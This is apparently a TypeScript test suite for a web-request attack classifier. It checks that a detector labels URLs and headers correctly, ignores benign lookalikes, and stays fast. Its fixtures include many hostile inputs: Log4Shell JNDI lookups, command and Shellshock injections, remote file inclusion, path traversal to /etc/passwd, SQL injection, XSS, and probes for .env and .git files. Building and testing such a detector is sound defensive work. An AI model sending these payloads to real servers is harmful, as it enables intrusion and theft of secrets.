import fc from 'fast-check';
import { expect, test } from 'vitest';
import { classify } from '../classify';
import { attackRules } from '../data/attackRules';
import { decodeText } from '../decodeText';
import { TokenScanner } from '../TokenScanner';

test.each([
  ['/?x=${jndi:ldap://192.0.2.1/a}', 'jndi'],
  ['/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A//192.0.2.1/a%7D', 'jndi'],
  ['/ping.php?host=192.0.2.1;cat%20/tmp/x', 'commandInjection'],
  ['/cgi-bin/x?a=%60id%60', 'commandInjection'],
  ['/index.php?a=eval(base64_decode(%22eA==%22))', 'codeInjection'],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'codeInjection'],
  ['/index.php?page=http://192.0.2.1/shell.txt?', 'remoteInclusion'],
  ['/download?f=../../../../etc/passwd', 'pathTraversal'],
  ['/download?f=..%252f..%252f..%252fetc%252fpasswd', 'pathTraversal'],
  ['/..%c0%af..%c0%af..%c0%afboot.ini', 'pathTraversal'],
  ['/item?id=1+UNION+ALL+SELECT+1,2,3--', 'sqlInjection'],
  ["/item?id=1'%20OR%20'1'='1", 'sqlInjection'],
  ['/item?id=1/**/union/**/select/**/1', 'sqlInjection'],
  ['/search?q=%3CScRiPt%3Ealert(1)%3C/script%3E', 'crossSiteScripting'],
  ['/search?q=\\x3cimg src=x onerror=alert(1)\\x3e', 'crossSiteScripting'],
  ['/.env', 'secretFile'],
  ['/.git/config', 'secretFile'],
  ['/wp-config.php.bak', 'secretFile'],
  ['/backup.zip', 'secretFile'],
  ['/uploads/c99.php', 'webShell'],
  ['/boaform/admin/formLogin', 'deviceExploit'],
  ['/wp-login.php', 'cmsProbe'],
  ['/phpMyAdmin/index.php', 'cmsProbe'],
] as const)('%s is %s', (target, kind) => {
  expect(classify(target, 'target')).toBe(kind);
});

test.each([
  ['/blog/select-a-union-from-the-list?page=2'],
  ['/search?q=select+a+seat+from+the+table+and+order+it'],
  ["/search?q=rock+'n'+roll"],
  ['/search?q=%22best+of%22+and+%22worst+of%22'],
  ['/files/?C=D;O=A'],
  ['/login?return=https%3A%2F%2Fwww.example.com%2Fa'],
  ['/share?url=https://www.example.com/a.php'],
  ['/.well-known/security.txt'],
  ['/a/../b.png'],
  ['/projects/repo.git/info/refs'],
  ['/docs/environment.html'],
  ['/articles/sleep-better?utm_source=a&utm_medium=b'],
  ['/tags/c%2B%2B'],
  ['/caf%C3%A9/men%C3%BC?a=1&b=2'],
])('%s is none', (target) => {
  expect(classify(target, 'target')).toBeNull();
});

test('headers are held against what is tried in headers', () => {
  expect(classify('() { :; }; /bin/bash -c "id"', 'referrer')).toBe('commandInjection');
  expect(classify('${jndi:ldap://192.0.2.1/a}', 'agent')).toBe('jndi');
  expect(classify('sqlmap/1.7 (https://sqlmap.org)', 'agent')).toBe('scanner');
  expect(classify('https://www.google.com/search?q=union+select+../../etc/passwd', 'referrer')).toBeNull();
  expect(classify('Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'agent')).toBeNull();
});

test('the scanner finds the words that a text holds, however they overlap', () => {
  const words = ['he', 'she', 'hers', 'his', 'union', '..', '${'];
  const scanner = new TokenScanner(words.map((word, i) => [word, 1 << i] as const));
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...'hersiunoHE.${é'), maxLength: 40 }), (text) => {
      const expected = words.reduce((bits, word, i) => (text.toLowerCase().includes(word) ? bits | (1 << i) : bits), 0);
      expect(scanner.scan(text)).toBe(expected);
    }),
  );
});

test('no text is slow to look at', () => {
  const hostile = [
    '..',
    '/',
    "' or ",
    'select ',
    '<a ',
    '%2525',
    '(',
    '${',
    '=http:',
    ' ',
    '\\x2e',
    'a',
    ';',
    '{{',
    '/*',
    '"',
  ];
  for (const piece of hostile) {
    for (const ending of ['', '!', '%', "'"]) {
      const start = process.cpuUsage();
      classify(`/?a=${piece.repeat(20_000)}${ending}`, 'target');
      const { user } = process.cpuUsage(start);
      expect(user / 1000, piece).toBeLessThan(200);
    }
  }
});

test('decoding never fails, and there are no more rules than bits', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => decodeText(text).length <= text.length));
  expect(decodeText('/A%2525%32%37?x=1+2%u0027')).toBe("/a'?x=1 2'");
  expect(attackRules.length).toBeLessThanOrEqual(31);
});
